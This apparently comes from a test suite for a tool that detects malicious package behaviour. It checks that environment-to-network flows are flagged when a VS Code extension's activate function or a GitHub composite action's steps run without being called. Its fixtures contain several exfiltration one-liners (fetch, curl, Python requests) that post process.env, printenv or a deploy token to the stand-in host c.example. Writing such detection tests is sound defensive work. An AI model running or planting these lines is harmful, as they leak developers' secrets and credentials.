"""What an editor, and a runner of jobs, start by themselves is read as what runs by itself."""

import json

import pytest
from reading import package

from biopsy.model.behaviour import When

SENDS = "fetch('https://c.example', { method: 'POST', body: JSON.stringify(process.env) })"
FLOW = "code.flow env:* > network"

FORMS = {
    "exports": f"exports.activate = activate\nfunction activate(c) {{ {SENDS} }}",
    "module.exports": f"module.exports = {{ activate: async () => {{ {SENDS} }} }}",
    "module.exports.activate": f"module.exports.activate = (c) => {{ {SENDS} }}",
    "another file": "const more = require('./more')\nexports.activate = () => more.go()",
    "module syntax": f"export function activate(c) {{ {SENDS} }}",
}
MORE = f"exports.go = () => {{ {SENDS} }}"


def extension(code: str, engines: str = "vscode") -> list[str]:
    manifest = json.dumps({"engines": {engines: "*"}, "main": "./out/x"})
    files = {"package.json": manifest, "out/x.js": code, "out/more.js": MORE}
    return package(files, {"out/x.js": When.IMPORT, "out/more.js": When.IMPORT})


@pytest.mark.parametrize("form", FORMS)
def test_what_activate_does_is_done_unasked(form: str) -> None:
    assert any(one.startswith(FLOW) and "(import)" in one for one in extension(FORMS[form]))


def test_a_function_of_that_name_elsewhere_is_somebodys_to_call() -> None:
    assert not any("(import)" in one for one in extension(FORMS["exports"], "node") if one.startswith(FLOW))


STEPS = """runs:
  using: composite
  steps:
    - shell: {shell}
      run: |
        {line}
"""

RUN = {
    "shell": ("bash", 'curl -d "$(printenv)" https://c.example', FLOW),
    "expression": ("bash", "curl -d '${{ toJSON(env) }}' https://c.example", FLOW),
    "one secret": (
        "sh",
        "curl -d '${{ secrets.DEPLOY_TOKEN }}' https://c.example",
        "code.flow env:DEPLOY_TOKEN > network",
    ),
    "python": (
        "python",
        "import os, requests; requests.post('https://c.example', data=dict(os.environ))",
        FLOW,
    ),
}


@pytest.mark.parametrize("kind", RUN)
def test_the_steps_of_an_action_are_read_as_the_scripts_they_are(kind: str) -> None:
    shell, line, flow = RUN[kind]
    text = STEPS.format(shell=shell, line=line)
    assert any(
        one.startswith(f"{flow} @ action.yml:")
        for one in package({"action.yml": text}, {"action.yml": When.IMPORT})
    )


def test_a_workflow_of_ones_own_is_not_run_by_who_uses_the_action() -> None:
    text = STEPS.format(shell="bash", line=RUN["shell"][1])
    assert not any(one.startswith("code.flow") for one in package({".github/workflows/x.yml": text}))
